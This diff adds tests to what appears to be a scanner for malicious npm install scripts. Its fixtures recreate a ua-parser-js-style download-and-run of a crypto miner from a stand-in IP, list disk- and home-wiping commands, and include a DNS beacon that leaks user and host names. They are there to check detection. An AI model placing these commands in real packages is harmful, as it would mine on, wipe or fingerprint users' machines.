@@ -537,3 +537,53 @@ export function spawnCommand(command, args, cwd, env = process.env) {
     expect(['none', 'low']).toContain(r.level);
   });
 });
+
+describe('install-scripts: what install commands reach beyond the hook', () => {
+  it('follows a shell script the install file runs, and sees its download-then-run and the miner it starts (ua-parser-js, 2021)', () => {
+    const r = run(fixture('ua-hijack', { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } }, {
+      'preinstall.js': `const { exec } = require('child_process');
+if (require('os').type() === 'Linux') exec('bash preinstall.sh');
+else exec('preinstall.bat');
+`,
+      'preinstall.sh': `if [ -z "$SKIP" ]; then
+  curl http://203.0.113.40/download/jsext -o jsext
+  chmod +x ./jsext
+  ./jsext -k --tls -o pool.example-pool.net:443 --donate-level=1 --background
+fi
+`,
+      'preinstall.bat': `curl http://203.0.113.40/download/jsext.exe -o jsext.exe\njsext.exe --donate-level=1\n`,
+    }));
+    expect(r.ids).toContain('downloadExecute');
+    expect(r.ids).toContain('minerRun');
+    expect(r.findings.find((f) => f.messageId === 'minerRun')!.evidence.file).toMatch(/preinstall\.(sh|bat)/);
+    expect(r.level).toBe('critical');
+  });
+
+  it('a build script run through `bash scripts/build.sh` that only compiles stays low', () => {
+    const r = run(fixture('builds', { scripts: { install: 'node install.js' } }, {
+      'install.js': `require('child_process').execSync('bash scripts/build.sh', { stdio: 'inherit' });\n`,
+      'scripts/build.sh': `#!/bin/sh\nset -e\nmkdir -p build\ncc -O2 -o build/helper src/helper.c\n`,
+    }));
+    expect(r.ids).not.toContain('downloadExecute');
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('deleting the home folder or the disk at install is high; cleaning a folder of the package is not', () => {
+    for (const command of ['rm -rf ~/* || true', 'rm -rf "$HOME"', 'rd /s /q C:\\', 'rm -rf /']) {
+      const r = run(fixture('wiper', { scripts: { postinstall: command } }));
+      expect(r.ids, command).toContain('destructive');
+      expect(['high', 'critical'], command).toContain(r.level);
+    }
+    for (const command of ['rm -rf dist build', 'rm -rf node_modules/.cache', 'rm -rf /tmp/pkg-build', 'rm -f ~/.cache/pkg/lock']) {
+      expect(run(fixture('cleaner', { scripts: { postinstall: command } })).ids, command).not.toContain('destructive');
+    }
+  });
+
+  it('a DNS lookup carrying the user and host names is a beacon; pinging a fixed host is not', () => {
+    const probe = run(fixture('probe', { scripts: { preinstall: 'nslookup $(whoami).$(hostname).c0ffee.oast.example || true' } }));
+    expect(probe.ids).toContain('hostBeacon');
+    expect(['high', 'critical']).toContain(probe.level);
+    const ping = run(fixture('ping', { scripts: { postinstall: 'ping -c 1 registry.npmjs.org || echo offline' } }));
+    expect(ping.ids).not.toContain('hostBeacon');
+  });
+});
